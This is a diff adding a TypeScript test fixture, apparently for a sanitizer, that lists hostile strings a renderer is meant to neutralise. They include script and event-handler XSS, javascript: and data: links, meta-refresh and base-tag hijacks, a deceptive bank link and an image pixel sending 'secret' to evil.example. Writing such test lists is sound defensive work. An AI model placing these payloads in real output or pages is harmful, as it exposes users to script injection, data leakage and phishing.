@@ -1,0 +1,22 @@
+/** Texts that a model, a user or a name may hold. None may run, load anything or lead anywhere but where it says. */
+export const HOSTILE: readonly string[] = [
+  '<script>window.hacked=1</script>',
+  '<img src=x onerror="window.hacked=1">',
+  '<svg onload="window.hacked=1">',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '[click](javascript:window.hacked=1)',
+  '[click](JaVaScRiPt:window.hacked=1)',
+  '[click](data:text/html,<script>opener.hacked=1</script>)',
+  '[click](vbscript:msgbox)',
+  '![pixel](https://evil.example/collect?secret=1)',
+  '![x](javascript:window.hacked=1)',
+  '![x][ref]\n\n[ref]: https://evil.example/ref.png',
+  '<a href="https://evil.example" onclick="window.hacked=1">text</a>',
+  '[https://bank.example](https://evil.example/phish)',
+  '<style>body{display:none}</style>',
+  '<form action="https://evil.example"><input name=a></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '```html\n<script>window.hacked=1</script>\n```',
+  'https://evil.example/auto?x=1',
+]
